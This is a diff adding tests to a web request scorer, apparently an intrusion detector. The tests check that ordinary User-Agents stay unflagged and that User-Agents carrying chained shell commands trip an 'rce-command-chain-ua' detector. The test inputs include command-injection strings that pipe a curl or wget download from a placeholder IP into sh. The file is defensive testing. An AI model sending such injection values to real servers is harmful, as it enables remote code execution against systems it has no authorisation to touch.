@@ -181,6 +181,23 @@ describe('rule families', () => {
     expect(scorer.score(url, BROWSER, undefined)).toBeUndefined();
   });
 
+  it.each([
+    'Mozilla/5.0 (Windows Phone 8.1; ARM; Trident/7.0; Touch; rv:11.0; IEMobile/11.0; NOKIA; Lumia 530) like Gecko',
+    'serpstatbot/1.0 (advanced backlink tracking bot; curl/7.58.0; http://serpstatbot.com/; abuse@serpstatbot.com)',
+    'Mozilla/5.0 (compatible; Uptime/1.0; http://uptime.com)',
+    'python-httpx/0.27.0',
+  ])('leaves the User-Agent %s alone: command names as its tokens, an ordinary client', (userAgent) => {
+    expect(scorer.score('/products/usb-c-cable', userAgent, undefined)).toBeUndefined();
+  });
+
+  it.each([
+    'Mozilla/5.0; curl http://203.0.113.5/x.sh | sh',
+    'Mozilla/5.0 | id',
+    'x; wget -qO- http://203.0.113.5/a',
+  ])('takes a command chained in the User-Agent %s', (userAgent) => {
+    expect(scorer.score('/', userAgent, undefined)?.reasons.map((r) => r.detector)).toContain('rce-command-chain-ua');
+  });
+
   it('takes a session id in the URL for fixation when the request has no Referer, and any Referer as on-site when the site is unknown', () => {
     expect(detectorsOf('/cart?jsessionid=ABC123')).toContain('session-id-param');
     expect(detectorsOf('/cart?jsessionid=ABC123', 'https://shop.example/products')).not.toContain('session-id-param');
